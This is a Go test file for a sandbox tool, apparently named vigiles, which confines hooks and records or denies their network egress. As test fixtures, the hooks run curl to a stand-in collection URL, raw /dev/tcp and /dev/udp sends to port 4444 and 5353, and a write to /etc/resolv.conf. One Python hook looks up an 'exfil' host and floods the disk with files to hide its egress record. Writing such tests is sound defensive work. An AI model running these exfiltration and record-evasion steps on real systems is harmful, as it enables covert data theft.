package escape

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
)

// TestEgressRecordedForEveryCaller runs a hook that tries the network in
// three ways — a proxy-honouring client, raw TCP that ignores the proxy,
// a raw UDP send — through the vigiles binary in deny and record mode, as
// root and as an unprivileged user. Nothing leaves the sandbox: its
// network namespace has no route out (documentation addresses only).
func TestEgressRecordedForEveryCaller(t *testing.T) {
	requireBwrap(t)
	hook := `curl -s -m 3 http://api.example.test/collect?id=1 >/dev/null
		(echo hi > /dev/tcp/192.0.2.10/4444) 2>/dev/null
		(echo hi > /dev/udp/198.51.100.20/5353) 2>/dev/null
		exit 0`
	for _, r := range runners(t) {
		for _, mode := range []string{"deny", "record"} {
			t.Run(r.name+"/"+mode, func(t *testing.T) {
				dir := workTree(t)
				res := vigilesRaw(t, r, dir, "--egress", mode, "--", "bash", "-c", hook)
				if res.Egress == nil {
					t.Fatal("egress is null on a confined run")
				}
				seen := map[string]bool{}
				for _, e := range res.Egress {
					if e.Allowed {
						t.Errorf("%s mode allowed %+v", mode, e)
					}
					seen[e.Via+" "+e.Host+e.IP] = true
				}
				want := []string{"connect 192.0.2.10", "connect 198.51.100.20"}
				if mode == "deny" {
					want = append(want, "dns api.example.test")
				} else {
					want = append(want, "proxy api.example.test")
				}
				for _, w := range want {
					if !seen[w] {
						t.Errorf("missing %q in %v", w, keys(seen))
					}
				}
			})
		}
	}
}

// TestTheHookGetsTheWallsResolverAndProxy: what the egress set-up
// decides reaches the hook, which the reaper starts once it is confined:
// /etc/resolv.conf names only the sandbox's stub (and the hook cannot
// change it), and in record mode the proxy variables point at the
// recording proxy, for every caller.
func TestTheHookGetsTheWallsResolverAndProxy(t *testing.T) {
	requireBwrap(t)
	hook := `cat /etc/resolv.conf
		if (echo 'nameserver 192.0.2.53' >> /etc/resolv.conf) 2>/dev/null; then echo RESOLV-WRITABLE; fi
		echo "proxy=$HTTP_PROXY"`
	for _, r := range runners(t) {
		for _, mode := range []string{"deny", "record"} {
			t.Run(r.name+"/"+mode, func(t *testing.T) {
				res := vigiles(t, r, workTree(t), nil, "--egress", mode, "--", "sh", "-c", hook)
				if res.Tier != "confined" || res.ExitCode != 0 {
					t.Fatalf("tier %s exit %d error %q stderr %q", res.Tier, res.ExitCode, res.Error, res.Stderr)
				}
				var ns []string
				proxy := ""
				for _, l := range strings.Split(res.Stdout, "\n") {
					if f := strings.Fields(l); len(f) == 2 && f[0] == "nameserver" {
						ns = append(ns, f[1])
					}
					if p, ok := strings.CutPrefix(l, "proxy="); ok {
						proxy = p
					}
				}
				if len(ns) == 0 || ns[0] != "127.0.0.1" || slices.ContainsFunc(ns, func(a string) bool { return a != "127.0.0.1" && a != "::1" }) {
					t.Errorf("the hook's resolv.conf names %v, want the stub only (127.0.0.1, ::1)\n%s", ns, res.Stdout)
				}
				if strings.Contains(res.Stdout, "RESOLV-WRITABLE") {
					t.Error("the hook could write its /etc/resolv.conf")
				}
				if mode == "record" && !strings.HasPrefix(proxy, "http://127.0.0.1:") {
					t.Errorf("HTTP_PROXY = %q in record mode, want the recording proxy", proxy)
				}
				if mode == "deny" && proxy != "" {
					t.Errorf("HTTP_PROXY = %q in deny mode, want none", proxy)
				}
			})
		}
	}
}

type egressEntry struct {
	Host     string `json:"host"`
	IP       string `json:"ip"`
	Port     int    `json:"port"`
	Proto    string `json:"proto"`
	Via      string `json:"via"`
	Allowed  bool   `json:"allowed"`
	Attempts int    `json:"attempts"`
	Detail   string `json:"detail"`
}

type egressResult struct {
	Tier   string        `json:"tier"`
	Egress []egressEntry `json:"egress"`
}

func vigilesRaw(t *testing.T, r runner, dir string, args ...string) egressResult {
	t.Helper()
	res := vigiles(t, r, dir, nil, args...)
	var er egressResult
	if err := json.Unmarshal([]byte(res.raw), &er); err != nil {
		t.Fatal(err)
	}
	return er
}

func keys(m map[string]bool) string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return strings.Join(out, ", ")
}

// TestWriteRecordTooLarge: a hook cannot erase its egress record by making
// its write record larger than vigiles reads (18,000 files under 4,000-byte
// paths, about 68 MiB of JSON): the run fails, saying the write record is
// too large, and the name it asked is still reported. (Before, the sandbox
// hung until the backstop killed it, and nothing was reported.)
func TestWriteRecordTooLarge(t *testing.T) {
	requireBwrap(t)
	hook := `import os, socket
try:
    socket.getaddrinfo("exfil.example.test", 443)
except OSError:
    pass
p = "."
for i in range(15):
    p = os.path.join(p, "d%02d" % i + "x" * 247)
os.makedirs(p)
for i in range(18000):
    open(os.path.join(p, "%05d" % i + "y" * 200), "w").close()`
	r := runners(t)[0]
	dir := workTree(t)
	res := vigiles(t, r, dir, nil, "--egress", "record", "--timeout", "60s", "--", "python3", "-c", hook)
	if !strings.Contains(res.Error, "the write record is too large to report") || res.Writes != nil {
		t.Fatalf("error %q, %d writes: want the write record called too large, and none reported", res.Error, len(res.Writes))
	}
	var er egressResult
	if err := json.Unmarshal([]byte(res.raw), &er); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range er.Egress {
		found = found || e.Host == "exfil.example.test"
	}
	if !found {
		t.Errorf("egress %+v: the name the hook asked is gone", er.Egress)
	}
}
